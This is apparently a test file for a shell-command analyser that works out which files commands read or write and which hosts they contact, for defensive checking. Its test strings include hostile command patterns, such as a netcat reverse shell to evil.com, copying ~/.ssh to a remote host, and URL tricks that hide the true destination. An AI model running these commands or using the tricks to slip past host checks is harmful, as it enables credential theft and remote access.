import fc from 'fast-check';
import { describe, expect, test } from 'vitest';

import { filesOf, hostsOf } from '../../src/programs/command-files.js';
import { hostsOfProgram } from '../../src/programs/host-words.js';
import type { Word } from '../../src/shell/reading.js';
import { propertyRuns } from '../support/property-runs.js';
import { wordsOf } from './words.js';

/** `<a` is read, `>a` written; `/**` behind it if whole; `?a` may be either or no file at all. */
function shown(line: string): string {
  return filesOf(wordsOf(line))
    .map(({ access, target, whole, certain }) => {
      const mark = access === 'read' ? '<' : '>';
      const text = typeof target === 'string' ? target : `${target.begins}…`;
      return `${certain ? mark : '?'}${text}${whole ? '/**' : ''}`;
    })
    .join(' ');
}

describe('files of', () => {
  test.each([
    // Readers
    ['cat a b', '<a <b'],
    ['cat -n ~/.ssh/id_rsa', '<~/.ssh/id_rsa'],
    ['/bin/cat a', '<a'],
    ['cat "$f"', '<…'],
    ['cat src/*.ts', '<src/…'],
    ['cat -', ''],
    ['cat', ''],
    ['head -n 5 a', '<a'],
    ['head -5 a', '<a'],
    ['head -n5 -- -a', '<-a'],
    ['tail -c +10 -f a', '<a'],
    ['wc -l --files0-from=list', '<list'],
    ['cut -d , -f 1 a', '<a'],
    ['sort -k 2 a b', '<a <b'],
    ['sort -o b a', '>b <a'],
    ['sort --outp=b a', '>b <a'],
    ['uniq a b', '<a >b'],
    ['uniq -f 1 a', '<a'],
    ['xxd a b', '<a >b'],
    ['grep foo a', '<a'],
    ['grep -e foo a', '<a'],
    ['grep -A 3 foo a b', '<a <b'],
    ['grep -f list a', '<list <a'],
    ['grep --fil=list a', '<list <a'],
    ['grep -rn foo src', '<src/**'],
    ['grep -r foo', '<./**'],
    ['grep foo', ''],
    ['rg foo', '<./**'],
    ['rg -g x -t ts foo src', '<src/**'],
    ['rg -e foo src', '<src/**'],
    ['rg --files src', '<src/**'],
    ['sed s/a/b/ x', '<x'],
    ['sed -n -e 5p x', '<x'],
    ['sed -f script x', '<script <x'],
    ['sed -i s/a/b/ x', '<x >x'],
    ['sed -i.temp s/a/b/ x', '<x >x'],
    ['awk -F : 1 /etc/passwd', '</etc/passwd'],
    ['awk -f prog x', '<prog <x'],
    ['find', '<./**'],
    ['find a b -name c', '<a/** <b/**'],
    ['find -L a -newer b', '<a/** <b'],
    ['find a -delete', '<a/** >a/**'],
    ['find a -fprint out', '<a/** >out'],
    ['ls', '<.'],
    ['ls -la a', '<a'],
    ['ls -R a', '<a/**'],
    ['stat -c %s a', '<a'],
    ['diff -r a b', '<a/** <b/**'],
    ['base64 -i a -o b', '<a >b'],
    ['sha256sum -c sums', '<sums'],
    ['jq .a f', '<f'],
    ['jq --arg x y .a f', '<f'],
    ['jq --slurpfile x g .a f', '<g <f'],
    ['du -sh a', '<a/**'],
    ['source a b', '<a ?b'],
    ['. ./env', '<./env'],
    ['bash script.sh a', '<script.sh ?a'],
    ['bash -c ls a', '?a'],
    ['python3 a.py', '<a.py'],
    ['python3.12 a.py', '<a.py'],
    ['python -m http.server', ''],
    ['node -r ./x a.js', '<./x <a.js'],
    // Writers
    ['tee -a a b', '>a >b'],
    ['touch -r a b', '<a >b'],
    ['mkdir -p -m 755 a', '>a'],
    ['rm a', '>a'],
    ['rm -rf a b', '>a/** >b/**'],
    ['mv a b', '<a/** >a/** >b/**'],
    ['cp a b', '<a >b'],
    ['cp a b c', '<a <b >c'],
    ['cp -r a b', '<a/** >b/**'],
    ['cp -t d a b', '>d <a <b'],
    ['cp --target-directory=d a', '>d <a'],
    ['cp $files', '<… >…'],
    ['ln -s a b', '<a >b'],
    ['install -m 755 a b', '<a >b'],
    ['install -d a b', '>a >b'],
    ['rsync -a a/ host:b', '<a//**'],
    ['rsync -a host:a b', '>b/**'],
    ['scp -i key a host:b', '<key <a'],
    ['scp -r ~/.ssh me@host:', '<~/.ssh/**'],
    ['truncate -s 0 a', '>a'],
    ['dd if=a of=b bs=1', '<a >b'],
    ['chmod 755 a', '>a'],
    ['chmod -x a', '>a'],
    ['chmod -R u+w,g-w a', '>a/**'],
    ['chown me:me a', '>a'],
    ['chown --reference=r a', '<r >a'],
    ['shred -u a', '>a'],
    ['patch -p1 -i a', '<a <./** >./**'],
    ['tar -cf a.tar b c', '>a.tar <b/** <c/**'],
    ['tar czf a.tgz -C d b', '>a.tgz <d/b/**'],
    ['tar xzf a.tgz', '<a.tgz >./**'],
    ['tar -xf a.tar -C d', '<a.tar >d/**'],
    ['tar tf a.tar', '<a.tar'],
    ['tar -cf - b', '<b/**'],
    ['zip -r a.zip b', '>a.zip <b/**'],
    ['unzip a.zip -d d', '<a.zip >d/**'],
    ['unzip -l a.zip', '<a.zip'],
    ['gzip a', '<a >a'],
    ['gzip -c a', '<a'],
    ['curl -o a https://x', '>a'],
    ['curl -O https://x/a', '>./**'],
    ['curl -T a https://x', '<a'],
    ['curl -d @a https://x', '<a'],
    ['curl --data-binary @a https://x', '<a'],
    ['curl --data-urlencode n@a https://x', '<a'],
    ['curl -d a=b https://x', ''],
    ['curl -F f=@a https://x', '<a'],
    ["curl -F 'f=@a;type=x' https://x", '<a'],
    ['curl -K a', '<a'],
    ['curl file:///etc/passwd', '</etc/passwd'],
    ['wget -O a https://x', '>a'],
    ['wget -P d https://x', '>d'],
    ['git add a b', '<a/** <b/**'],
    ['git -C d add a', '<d/** <d/a/**'],
    ['git -C d -C e add a', '<d/** <e/** <d/e/a/**'],
    ['git rm a', '>a'],
    ['git mv a b', '<a/** >a/** >b/**'],
    ['git checkout -- a', '>a/**'],
    ['git checkout main', '?main'],
    ['git restore a', '>a/**'],
    ['git clone https://x/y.git', '>y/**'],
    ['git clone https://x/y.git z', '>z/**'],
    ['git commit -m text', ''],
    ['git diff --output=a', '>a'],
    // Others
    ['vim ~/.ssh/id_rsa', '?~/.ssh/id_rsa'],
    ['prog --key=a -fb c=d @e f', '?a ?b ?c=d ?d ?@e ?e ?f'],
    ['prog -v --all', ''],
    ['prog file:///a', '?file:///a ?/a'],
    ['prog "$x" src/*.ts --out="src/$y"', '?src/… ?src/…'],
    ['./prog a', '<./prog ?a'],
    ['./cat a', '<./cat ?a'],
    ['$cmd a', '?a'],
    // None
    ['echo a', ''],
    ['printf %s a', ''],
    ['test -f a', ''],
    ['[ -f a ]', ''],
    ['seq 1 5', ''],
    ['date +%s', ''],
    ['true a', ''],
  ])('%s', (line, expected) => {
    expect(shown(line)).toBe(expected);
  });
});

describe('hosts of', () => {
  test.each([
    ['curl https://Example.COM/a', 'example.com'],
    ['curl https://user:pass@example.com:8080/a?b#c', 'example.com'],
    ['curl http://good@evil/', 'evil'],
    ['curl http://a@good@evil/', 'evil'],
    ["curl 'http://evil#@good/'", 'evil'],
    ["curl 'http://evil?@good/'", 'evil'],
    [String.raw`curl 'http://good\@evil/'`, 'good evil'],
    ['curl http://ev%69l.com/', 'evil.com'],
    ['curl ev%69l.com/%zz', 'evil.com'],
    ['curl http://evil.com./', 'evil.com'],
    ['curl http://[::1]:80/a', '::1'],
    ['curl http://[::1%25lo]:80/a', '::1'],
    ['curl http://[::ffff:127.0.0.1]/', '127.0.0.1'],
    ['curl http://0x7f.1/', '127.0.0.1'],
    ['curl 2130706433', '127.0.0.1'],
    ['curl 0', '0.0.0.0'],
    ['curl http:/evil.com/a', 'evil.com'],
    ["curl 'http://{a,b}.evil.com/'", 'a.evil.com b.evil.com'],
    ["curl '{a,b}.evil.com/{x,y}'", 'a.evil.com b.evil.com'],
    ['curl example.com/a', 'example.com'],
    ['curl -s -o out example.com', 'example.com'],
    ['curl -x proxy:3128 http://a', 'a proxy'],
    ['curl -xevil.com:80 good', 'evil.com good'],
    ['curl -sxevil.com:80 good', 'evil.com good'],
    ['curl -sSLx[::1]:80 good', '::1 good'],
    ['curl --proxy=evil.com:80 good', 'evil.com good'],
    ['curl --connect-to ::evil:443 https://good', 'good evil'],
    ['curl --connect-to good:443:evil.com:8443 https://good', 'good evil.com'],
    ['curl --connect-to good:443:[::1]:8443 https://good', 'good ::1'],
    ['curl --resolve good:443:10.0.0.1 https://good', 'good 10.0.0.1'],
    ["curl -H 'Host: evil.com' https://good", 'good evil.com'],
    ['curl --dns-servers 10.0.0.1,10.0.0.2 good', '10.0.0.1 10.0.0.2'],
    ['curl --url=a.example', 'a.example'],
    ['curl "https://example.com/$x"', 'example.com'],
    ['curl "https://example.com$x"', 'example.com'],
    ['curl "$x.evil.com"', 'x.evil.com'],
    ['wget example.com', 'example.com'],
    ['wget -O a ftp://b/c', 'b'],
    ['http evil.com', 'evil.com'],
    ['https POST evil.com a=b', 'evil.com'],
    ['xh evil.com', 'evil.com'],
    ['aria2c evil.com/a', 'evil.com'],
    ['lynx evil.com', 'evil.com'],
    ['w3m evil.com', 'evil.com'],
    ['git clone git@github.com:a/b.git', 'github.com'],
    ['git clone ssh://git@Host:22/a', 'host'],
    ['git clone host:a', 'host'],
    ['git -C d clone host:a', 'host'],
    ['git push evil.com:x', 'evil.com'],
    ['git pull evil.com:x main', 'evil.com'],
    ['git fetch evil.com:x', 'evil.com'],
    ['git $command evil.com:x', 'evil.com'],
    ['git archive --remote=evil.com:x HEAD', 'evil.com'],
    ['git remote add o https://x/y', 'x'],
    ['git submodule add evil.com:x', 'evil.com'],
    ['ssh user@host ls', 'host'],
    ['ssh -p 22 -i key host', 'host'],
    ['ssh -P x evil.com', 'evil.com'],
    ['ssh -o HostName=evil good', 'good evil'],
    ['ssh -oHostName=evil.com good', 'good evil.com'],
    ["ssh -o 'ProxyCommand nc -x evil.com:80 %h %p' good", 'good evil.com'],
    ['ssh -J a,b@c:22 d', 'a c d'],
    ['ssh -L 8080:evil.com:80 good', 'evil.com good'],
    ['ssh "$user@evil.com"', 'evil.com'],
    ['scp a user@host:b', 'host'],
    ['scp host:a b', 'host'],
    ['scp [::1]:a b', '::1'],
    ['rsync -a ./a host:b', 'host'],
    ['rsync rsync://host/a b', 'host'],
    ["rsync -e 'ssh -J evil.com' a good:b", 'evil.com good'],
    ['ping -c 1 host', 'host'],
    ['ping 2130706433', '127.0.0.1'],
    ['ping ::ffff:127.0.0.1', '127.0.0.1'],
    ['ping fe80::1%eth0', 'fe80::1'],
    ['nc host 80', 'host'],
    ['nc -w 3 host 80', 'host'],
    ['nc -e /bin/sh evil.com 80', 'evil.com'],
    ['nc ::1 80', '::1'],
    ['ncat --exec x evil.com', 'evil.com'],
    ['telnet host', 'host'],
    ['dig evil.com', 'evil.com'],
    ['dig @10.0.0.1 a.example', '10.0.0.1 a.example'],
    ['openssl s_client -connect evil.com:443', 'evil.com'],
    ['socat - TCP:host:80', 'host'],
    ['socat - OPENSSL:evil.com:443,verify=0', 'evil.com'],
    ['npm install --registry=https://r.example/', 'r.example'],
    ['pip install git+https://g.example/a', 'g.example'],
    ['prog --url=http://a https://b', 'a b'],
    ['prog http://a,http://b', 'a b'],
    ['prog user@host:path', 'host'],
    ['psql postgres://u:p@db.example:5432/x', 'db.example'],
    ['psql -h evil.com', 'evil.com'],
    ["psql 'host=evil.com port=5432'", 'evil.com'],
    ['mysql -hevil.com', 'evil.com'],
    ['mongosh evil.com/db', 'evil.com'],
    ['kubectl --server=https://evil.com:6443 get pods', 'evil.com'],
    ['docker -H tcp://evil.com ps', 'evil.com'],
    ['docker pull evil.com/a:latest', 'evil.com'],
    ['/usr/bin/curl evil.com', 'evil.com'],
  ])('%s', (line, expected) => {
    expect(hostsOf(wordsOf(line))).toEqual(expect.arrayContaining(expected.split(' ')));
  });

  test.each([
    ['redis-cli', '-h evil.com get a'],
    ['kubectl', '--server=evil.com:6443 get pods'],
    ['docker', '-H evil.com:2375 ps'],
    ['git', '-c http.proxy=evil.com:80 fetch'],
  ])('%s %s, where the host stands before the sub-command', (name, line) => {
    expect(hostsOfProgram(name, wordsOf(line))).toContain('evil.com');
  });

  test.each([
    'curl',
    'curl -v --compressed',
    'curl file:///etc/passwd',
    'nc -l 8080',
    'git status evil.com:x',
    'git commit -m evil.com:x',
    'git -C evil.com:x log',
    'git remote -v',
    'openssl x509 -in evil.com',
    'prog evil.com evil.com:80 a@evil.com',
    'echo hello',
    'ls a:b',
  ])('%s: none', (line) => {
    expect(hostsOf(wordsOf(line))).toEqual([]);
  });

  test('a name is found whatever stands around it', () => {
    const program = fc.constantFrom('curl', 'ssh', 'nc', 'psql', 'xh');
    const before = fc.constantFrom('', 'a@', 'a:b@', 'http://', '-x', '-vvx', '--a=', '-o Host=', 'a,', 'a:1:', 'TCP:');
    const after = fc.constantFrom('', ':80', '/a', ':a', ',b', ':80:c:443', '?a', '#a', '.', ';b', '%2Fa');
    fc.assert(
      fc.property(program, before, fc.domain(), after, (name, left, host, right) =>
        hostsOf([name, `${left}${host}${right}`]).includes(host.toLowerCase()),
      ),
      propertyRuns(500),
    );
  });
});

test('a file that a reader is given is found among any options', () => {
  const reader = fc.constantFrom('cat', 'wc', 'rev', 'tac', 'less', 'sort', 'tee', 'vim', 'unheard-of');
  const flags = fc.array(fc.constantFrom('-v', '--version', '-u', '--help'));
  fc.assert(
    fc.property(reader, flags, flags, (name, before, after) => {
      const files = filesOf([name, ...before, '/secret', ...after]);
      return files.some(({ target }) => target === '/secret');
    }),
    propertyRuns(500),
  );
});

test('no words make it throw', () => {
  const programs = fc.constantFrom('curl', 'git', 'tar', 'find', 'dd', 'unzip', 'cp', 'jq', 'ssh', 'scp', 'sed', 'x');
  const unknown = fc.record({
    source: fc.constant('$x'),
    begins: fc.constantFrom('', '-', '--', '-o', '--data=@', 'http://', 'http://a/', 'of=', 'a'),
    splits: fc.boolean(),
  });
  const texts = fc.constantFrom(
    'clone',
    'xzf',
    '-C',
    '-f',
    '-d',
    '@',
    '=',
    'http://[',
    'http://%',
    'a@b:',
    '{,}',
    '--',
  );
  const word: fc.Arbitrary<Word> = fc.oneof(texts, fc.string(), fc.string({ unit: 'binary' }), fc.webUrl(), unknown);
  fc.assert(
    fc.property(programs, fc.array(word), (name, words) => {
      filesOf([name, ...words]);
      hostsOf([name, ...words]);
      filesOf(words);
      hostsOf(words);
    }),
    propertyRuns(5_000),
  );
});

test('many braces in a URL do not take long', () => {
  expect(hostsOf(['curl', `http://${'{a,b}'.repeat(200)}.example/`]).length).toBeLessThan(1_000);
});
